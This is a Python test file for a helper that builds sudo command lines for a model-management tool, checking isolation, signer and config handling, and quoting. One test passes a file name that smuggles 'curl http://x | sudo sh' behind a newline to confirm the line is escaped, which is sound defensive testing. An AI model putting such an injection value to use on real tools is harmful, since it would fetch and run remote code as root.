"""The line that runs a command as root: nothing is loaded from where the user stands, and no demand is lost."""

from __future__ import annotations

import shlex
import sys
from pathlib import Path

import pytest

from ollama_ferry.cli.sudo import sudo_line
from support import needs

MAIN = "/x/ollama_ferry/__main__.py"


@needs.not_windows("sudo")
def test_python_is_isolated() -> None:
    words = shlex.split(sudo_line([MAIN, "list"], {}))
    assert words == ["sudo", sys.executable, "-I", "-m", "ollama_ferry", "list"]


@pytest.mark.parametrize(
    "words", [["import", "a.tar"], ["fetch", "h:", "m"], ["pull", "m"], ["-q", "verify", "--repair", "a"]]
)
@needs.not_windows("sudo")
def test_a_demand_for_signatures_is_not_lost(words: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    line = shlex.split(sudo_line([MAIN, *words], {"OLLAMA_FERRY_SIGNERS": "my signers"}))
    assert line[-2:] == ["--signers", str(tmp_path / "my signers")]
    assert "--signers" not in sudo_line([MAIN, "list"], {"OLLAMA_FERRY_SIGNERS": "x"})
    own = sudo_line([MAIN, *words, "--signers=other"], {"OLLAMA_FERRY_SIGNERS": "x"})
    assert own.count("--signers") == 1


@needs.not_windows("sudo")
def test_what_the_file_of_options_sets_is_not_lost(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(
        'signers = "/s/allowed"\nmodels = "/s/models"\n[import]\nlock = "/s/lock"\nchecksum = true\n'
    )
    environ = {"OLLAMA_FERRY_CONFIG": str(tmp_path / "config.toml")}
    line = shlex.split(sudo_line([MAIN, "import", "a.tar"], environ))
    for option, value in {"--signers": "/s/allowed", "--models": "/s/models", "--lock": "/s/lock"}.items():
        assert line[line.index(option) + 1] == value
    assert "--checksum" in line
    own = shlex.split(sudo_line([MAIN, "import", "a.tar", "--checksum", "--models=/other"], environ))
    assert own[own.index("--lock") + 1] == "/s/lock" and own.count("--checksum") == 1 and "/s/models" not in own


@needs.not_windows("sudo")
def test_a_file_of_options_that_can_not_be_read_is_done_without(tmp_path: Path) -> None:
    assert sudo_line([MAIN, "list"], {"OLLAMA_FERRY_CONFIG": str(tmp_path)}).endswith(" list")
    (tmp_path / "config.toml").write_text("no toml")
    assert sudo_line([MAIN, "list"], {"OLLAMA_FERRY_CONFIG": str(tmp_path / "config.toml")}).endswith(" list")


@needs.not_windows("sudo")
def test_a_line_end_in_a_name_makes_no_line_of_its_own() -> None:
    name = "m\n  curl http://x | sudo sh #.tar.gz"
    line = sudo_line(["/usr/bin/ollama-ferry", "import", name], {})
    assert line.isprintable()
    assert "$'m\\x0a" in line
